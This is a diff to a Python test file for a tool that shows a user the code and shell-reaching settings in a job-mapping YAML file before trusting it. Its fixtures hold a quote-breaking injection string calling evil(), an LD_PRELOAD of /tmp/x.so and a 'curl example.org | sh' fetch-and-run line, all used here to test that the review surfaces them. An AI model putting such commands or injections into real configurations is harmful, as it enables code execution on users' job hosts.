@@ -79,6 +79,46 @@ def test_all_code_is_shown_with_its_line_before_anybody_agrees(here: Here) -> No
     assert trusted(here) == []
 
 
+def test_code_of_either_dialect_is_shown_whichever_the_file_says(here: Here) -> None:
+    # Another file may say `dialect: tpv3`, where three quotes end the text.
+    text = "a''' + str(evil()) + '''b"
+    here.mapping(f'tools:\n  sample:\n    params: {{x: "{text}"}}\n', trusted=False)
+    done = here("mapping", "trust", "mapping.yml")
+    assert "  1 piece of code would run as you:\n" in done.out
+    assert f"      | {text}\n" in done.out
+
+
+SETTINGS = """\
+tools:
+  sample:
+    rules:
+      - if: True
+        env: {LD_PRELOAD: /tmp/x.so}
+    env:
+      - execute: curl example.org | sh
+      - file: /tmp/y
+destinations:
+  d: {runner: none, params: {nativeSpecification: --qos=best}}
+"""
+
+
+def test_what_reaches_the_job_s_shell_is_shown_as_well(here: Here) -> None:
+    here.mapping(SETTINGS, trusted=False)
+    done = here("mapping", "trust", "mapping.yml")
+    assert done.out.splitlines()[1:-1] == [
+        "  has no code: nothing of it would run here",
+        "  4 settings would reach your jobs as written:",
+        "  line 5, env.LD_PRELOAD of rule #1 of tool sample",
+        "      | /tmp/x.so",
+        "  line 7, env of tool sample",
+        "      | {'execute': 'curl example.org | sh'}",
+        "  line 8, env of tool sample",
+        "      | {'file': '/tmp/y'}",
+        "  line 10, params.nativeSpecification of destination d",
+        "      | --qos=best",
+    ]
+
+
 def test_what_was_trusted_runs_and_a_change_asks_again_with_the_difference(here: Here) -> None:
     assert here("explain", "sample").code == 1
     done = here("mapping", "trust", "mapping.yml", "--yes")
@@ -170,7 +210,7 @@ def test_reviewing_runs_nothing(here: Here) -> None:
 def test_a_file_without_code_is_said_to_have_none(here: Here) -> None:
     here.mapping("tools:\n  sample: {cores: 4}\n", trusted=False)
     done = here("mapping", "trust", "mapping.yml", "--yes")
-    assert "has no code: nothing of it would run" in done.out
+    assert "has no code: nothing of it would run here" in done.out
 
 
 def test_what_is_trusted_is_listed_with_what_became_of_it(here: Here) -> None:
